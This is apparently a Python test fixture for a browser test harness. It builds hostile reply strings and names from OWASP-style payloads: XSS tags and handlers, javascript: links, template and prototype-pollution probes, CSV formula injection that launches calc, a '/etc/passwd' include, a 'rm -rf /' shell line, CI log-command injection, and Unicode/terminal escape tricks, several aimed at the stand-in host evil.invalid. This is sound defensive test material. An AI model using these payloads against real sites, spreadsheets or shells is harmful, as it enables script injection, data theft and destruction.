"""Texts that try to get out of a page, a table, a spreadsheet or a log: replies, and names of things.

Whatever runs sets `window.__pwned`, opens a dialog, or asks something of evil.invalid, so that a browser test sees it.
The ways in are those of OWASP's cheat sheets (XSS filter evasion, CSV injection) and of Unicode TR36.
"""

import random
from collections.abc import Iterator

SEED = 20261122
MILLION = 1_000_000
RUN = "window.__pwned=1"
EVIL = "//evil.invalid/x"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src=https:{EVIL}.js></script>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    f"<script type=module>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</SCRIPT ><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"--!><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</template></noscript></iframe><script>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=https:{EVIL}.png>",
    f"<img srcset='https:{EVIL}.png 1x' loading=eager>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=https:{EVIL} autoplay onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div onpointerenter={RUN} style='position:fixed;inset:0'>x</div>",
    f"<p style=animation-name:x onanimationstart={RUN}>x</p><style>@keyframes x{{}}</style>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"` onmouseover=`{RUN}` x=`",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f'x" style="background:url(https:{EVIL})" y="',
    f"<xss contenteditable tabindex=1 id=x onfocus={RUN}>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN[7:]}'></iframe>",
    "<object data='data:text/html,<script>parent.__pwned=1</script>'></object>",
    f"<embed src=https:{EVIL}.swf>",
)
LINKS = (
    f"<a href='javascript:{RUN}'>click</a>",
    f"<a href='jav&#x09;ascript:{RUN}'>click</a>",
    f"<a href='\x01javascript:{RUN}'>click</a>",
    f"<a href=data:text/html,<script>{RUN}</script> target=_blank>click</a>",
    f"<form action='javascript:{RUN}'><button>go</button></form>",
    f"<form><button formaction='https:{EVIL}'>go</button></form>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    "vbscript:msgbox(1)",
    f"<base href=https:{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=https:{EVIL}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<link rel=stylesheet href=https:{EVIL}.css>",
    f"<link rel=preconnect href=https:{EVIL}><link rel=dns-prefetch href={EVIL}>",
    f"<style>@import 'https:{EVIL}.css'; *{{display:none!important}}</style>",
    f"<style>body{{background:url(https:{EVIL}.png)}}</style>",
    "<plaintext>",
    "<xmp><listing><noembed>",
    "<table><tr><td></table></div></main></body></html>",
    "<dialog open>you have won</dialog>",
    "<h1 id=verdict class=equivalent>EQUIVALENT</h1>",
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"'+({RUN})+'",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f'\\";{RUN};//',
    f"*/{RUN}/*",
    f"\n{RUN}\n//",
    f"}});{RUN};({{",
    '{"__proto__": {"__pwned": 1}}',
    "__proto__",
    "constructor",
    "%s %d %(x)s {0} {x!r} %n",
    "$HOME `id` $(id) ; rm -rf / #",
)
SHEETS = (
    "=1+1",
    '=HYPERLINK("http://evil.invalid/x","click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '","=1+1',
    'a,b;c\t"d""e\n=1+1',
    "＝1+1",
    "a\r\nb,c\r\n",
)
MARKDOWN = (
    f"[click](javascript:{RUN})",
    f"[click](<javascript:{RUN}>)",
    f"[click][x]\n\n[x]: javascript:{RUN}",
    f"![x](https:{EVIL}.png)",
    f"![x](https:{EVIL}.png \"t\")",
    "<https://evil.invalid/x>",
    "https://evil.invalid/x",
    "www.evil.invalid",
    "| a | b |\n|---|---|\n| c | d |",
    "a | b \\| c \\\\| d",
    "```\n</code></pre>\n```",
    "~~~\n``` `` `",
    "# heading\n## Verdicts\n---\n===",
    "- [x] done\n> quoted\n1. one",
    "**bold** _it_ ~~gone~~ `code` <kbd>x</kbd>",
    "@everyone #1 GH-1",
    "::error file=x::pwned",
    "::set-output name=x::y\n::add-mask::x",
    "[^1]\n\n[^1]: note",
    "$\\href{javascript:window.__pwned=1}{x}$ $$x$$",
    "<details><summary>x</summary>",
    "<!-- hidden",
)
LETTERS = (
    "\u202eevil\u202c \u2066x\u2069 \u200f\u200e",
    "abc\u202e" + "fdp.exe",
    "\u2067\u2067\u2067 no end",
    "a\u0000b\u0000",
    "\ud800",
    "\udfff \udc00\ud800 mixed",
    "\ud83d\ude00 as two halves",
    "\ufffe\uffff\ufdd0",
    "\u2028alert(1)\u2029",
    "\u0085next\u000bline\u000c",
    "\x1b[2J\x1b[31mred\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07",
    "\x1b]0;title\x07\x9b31m",
    "\b\b\b\b\x7f\x7f",
    "\ufeffmark",
    "Z\u0351\u036b\u0343\u036a" * 60,
    "\u200b\u200c\u200d\u2060\u00ad\u034f",
    "\U000e0001\U000e0061\U000e007f",
    "\u3164\u115f\u1160",
    "\u0430\u0440\u0440\u04cf\u0435 \uff1cscript\uff1e",
    "\u4e16\u754c \u0627\u0644\u0639\u0627\u0644\u0645 \u05e2\u05d5\u05dc\u05dd",
    "",
    " ",
    "\n\n\n",
    "\r\r\n\t",
    "null",
    "NaN",
    "-0",
    "1e999",
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *LINKS, *TEMPLATES, *SHEETS, *MARKDOWN, *LETTERS)
_FRAMES = ("{}", "{}", "It is {}.", "{}\n{}", '"{}"', "'{}'", "<p>{}", "<!--{}", "&{};", "\\{}", "```\n{}\n```")


def replies(count: int = 1000) -> list[str]:
    """`count` hostile replies, the same ones every time: all payloads, three of 1 MB, then framed and joined ones."""
    huge = [_long("<img src=x onerror=window.__pwned=1>"), _long("W"), _long("\u202e\u0301 \n")]
    found = [*PAYLOADS, *huge, *_joined(count)]
    assert count >= len(PAYLOADS) + len(huge)
    return found[:count]


def names() -> tuple[str, ...]:
    """Hostile names of tasks, items, models and boxes: payloads that fit on a line, and some that do not."""
    ways_out = (SCRIPTS[:3], HANDLERS[:2], HANDLERS[13:14], LINKS[:1], TEMPLATES[:2])
    return tuple(name for kind in (*ways_out, SHEETS[:3], MARKDOWN[8:12], LETTERS[:5]) for name in kind)


def writable(text: str) -> str:
    """The text as UTF-8 can hold it: lone surrogates become U+FFFD, as a decoder makes of them."""
    return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")


def _long(part: str) -> str:
    return (part * (MILLION // len(part) + 1))[:MILLION]


def _joined(count: int) -> Iterator[str]:
    draw = random.Random(SEED)
    for _ in range(count):
        frame, text = draw.choice(_FRAMES), "".join(draw.choices(PAYLOADS, k=draw.randint(2, 4)))
        yield frame.replace("{}", text)
